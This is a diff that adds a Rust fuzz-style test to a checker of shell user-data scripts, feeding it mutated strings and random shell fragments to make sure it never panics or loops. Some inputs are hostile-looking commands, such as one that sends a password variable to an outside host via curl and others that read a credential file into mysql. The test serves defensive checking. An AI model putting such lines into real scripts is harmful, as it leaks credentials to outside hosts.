@@ -7592,6 +7592,65 @@ mod user_data_hostile_review_30 {
         }
     }
 
+    /// Inputs that panicked (an index past the end) or recursed without end (a setter's own
+    /// substitution using its variable, a file's writer reading the file), found by a helper
+    /// that compared the crate before and after a refactor on mutated test strings; and
+    /// random text of the pieces those use.
+    #[test]
+    fn never_panics_nor_loops() {
+        for text in [
+            "=10.0.0.0mysq/etc/app/pw{l,\"{a,b}/head 8,mysql -p=",
+            "'; /etc/app/find / -exec {} -p=",
+            "PW=$(curl $PW",
+            "PW=$(curl \"https://x/$PW\")\nmysql -p\"$PW\"\n",
+            "printf)mysql -p$(</p>p",
+            "echo \"$(<./b)\" > ./a\necho \"$(<./a)\" > ./b\nmysql -u app -p\"$(<./a)\" -h db\n",
+            "rar a -p",
+            "do /dev/stdout{l,/dev/stdoutaws  'x''x'f() {curl $(f() {<<<ca_bundle/etc/app/pwrar a -pprintf.amazonaws.com",
+            "f() { curl \"https://x/$(f)\"; }\nX=$(f)\nmysql -u app -p\"$X\" -h db\n",
+            "a\\'b",
+        ] {
+            let _ = user_data_problem(text);
+        }
+        const PIECES: [&str; 20] = [
+            "$(",
+            ")",
+            "</p",
+            ">p",
+            "{l,",
+            "-exec {}",
+            "curl ",
+            "PW=",
+            "$PW",
+            "/etc/app/pw",
+            "printf",
+            "mysql -p",
+            "rar a -p",
+            " ",
+            "\n",
+            "\"",
+            "'",
+            "f() {",
+            "}",
+            "<<<",
+        ];
+        let mut state: u64 = 30;
+        for _ in 0..20_000 {
+            let mut text = String::new();
+            state = state
+                .wrapping_mul(6_364_136_223_846_793_005)
+                .wrapping_add(1);
+            let len = (state >> 60) as usize;
+            for _ in 0..len {
+                state = state
+                    .wrapping_mul(6_364_136_223_846_793_005)
+                    .wrapping_add(1);
+                text.push_str(PIECES[(state >> 33) as usize % PIECES.len()]);
+            }
+            let _ = user_data_problem(&text);
+        }
+    }
+
     /// Hostile review 29's tenth probe's false refusals: the fetching functions engineers
     /// write.
     #[test]
